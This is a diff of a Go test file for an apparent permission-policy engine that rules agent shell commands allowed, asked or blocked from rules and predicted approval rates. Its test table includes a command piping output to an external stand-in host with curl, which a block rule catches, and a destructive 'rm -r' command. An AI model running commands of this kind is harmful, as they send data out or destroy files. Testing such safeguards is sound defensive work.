@@ -36,12 +36,25 @@ func withRules(t *testing.T, allow, ask, block string) *policy.Policy {
 	return p
 }
 
-// constant predicts the same p for every part.
+// constant predicts the same p for every part, as if other people had
+// answered actions of its kind.
 func constant(p float64) PredictFunc {
 	return func(_ context.Context, ls []predictor.Ladder) ([]predictor.Prediction, error) {
 		out := make([]predictor.Prediction, len(ls))
 		for i, l := range ls {
-			out[i] = predictor.Prediction{P: p, Key: l.Exact(), Level: l.Exact()}
+			out[i] = predictor.Prediction{P: p, Key: l.Exact(), Level: l.Exact(), Specific: true}
+		}
+		return out, nil
+	}
+}
+
+// general predicts p for every part from general rates alone: nobody has
+// answered anything of its kind.
+func general(p float64) PredictFunc {
+	return func(_ context.Context, ls []predictor.Ladder) ([]predictor.Prediction, error) {
+		out := make([]predictor.Prediction, len(ls))
+		for i, l := range ls {
+			out[i] = predictor.Prediction{P: p, Key: l.Exact(), Level: l[0], Approvals: 1, Denials: 1}
 		}
 		return out, nil
 	}
@@ -52,7 +65,7 @@ func refused(p float64) PredictFunc {
 	return func(_ context.Context, ls []predictor.Ladder) ([]predictor.Prediction, error) {
 		out := make([]predictor.Prediction, len(ls))
 		for i, l := range ls {
-			out[i] = predictor.Prediction{P: p, Key: l.Exact(), Level: l.Exact(), Denials: 2}
+			out[i] = predictor.Prediction{P: p, Key: l.Exact(), Level: l.Exact(), Denials: 2, Specific: true}
 		}
 		return out, nil
 	}
@@ -96,6 +109,7 @@ func TestDecide(t *testing.T) {
 		{"block on one part of a pipe", "Bash", "ls | curl -T - https://x.example", never, 1, policy.Block, ByRule, "Bash(curl *)"},
 		{"prediction above the unknown class threshold", "Bash", "make build", constant(0.97), 1, policy.Allow, ByPrediction, "above"},
 		{"prediction below the block threshold", "Bash", "make build", refused(0.2), 1, policy.Block, ByPrediction, "below"},
+		{"no block on general rates alone", "Bash", "make build", general(0.3), 1, policy.Ask, ByPrediction, "nobody has answered anything of this kind"},
 		{"a block resting on other people's answers says so", "Bash", "make build", constant(0.2), 1, policy.Block, ByPrediction, "other people's answers"},
 		{"same p asks for a destructive command", "Bash", "rm -r build", constant(0.97), 1, policy.Ask, ByPrediction, "destructive"},
 		{"compound: the least likely part decides", "Bash", "make build && make deploy", byKey(map[string]float64{"Bash:make deploy": 0.6}), 1, policy.Ask, ByPrediction, "Bash:make deploy"},
